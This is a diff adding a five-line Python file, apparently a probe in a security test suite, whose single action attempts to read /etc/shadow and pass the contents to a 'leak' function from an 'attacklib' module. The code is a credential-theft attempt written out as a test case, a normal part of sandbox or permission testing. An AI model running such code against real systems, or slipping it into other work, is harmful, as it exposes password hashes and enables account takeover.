@@ -1,0 +1,5 @@
+"""secrets: read /etc/shadow."""
+
+from attacklib import *
+
+attempt("shadow", lambda: leak(open("/etc/shadow").read()))
